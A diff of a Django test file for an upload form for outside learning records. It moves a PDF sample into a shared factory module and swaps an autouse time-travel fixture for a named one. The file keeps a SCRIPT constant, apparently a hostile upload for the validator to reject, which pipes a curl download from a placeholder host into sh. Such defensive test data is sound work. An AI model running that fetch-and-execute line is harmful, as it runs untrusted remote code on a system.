@@ -5,27 +5,19 @@ what it says it is, and a replaced or removed one leaves storage."""
 import datetime
 
 import pytest
-import time_machine
 from django.core.files.base import ContentFile
 from django.core.files.uploadedfile import SimpleUploadedFile
 
 from events.models import ExternalLearning
-from tests.development_factories import ExternalLearningFactory
+from tests.development_factories import PDF, ExternalLearningFactory
 from tests.factories import StaffFactory, UserFactory
 
-pytestmark = pytest.mark.django_db
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("mid_year")]
 
 ADD = "/mijn-leerhuis/ontwikkeling/elders/nieuw/"
-PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer\n%%EOF\n"
 PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 32
 JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 32
 SCRIPT = b"#!/bin/sh\ncurl https://example.invalid/x | sh\n"
-
-
-@pytest.fixture(autouse=True)
-def _mid_year():
-    with time_machine.travel(datetime.datetime(2026, 6, 15, 12, tzinfo=datetime.UTC), tick=False):
-        yield
 
 
 def course(**changes):
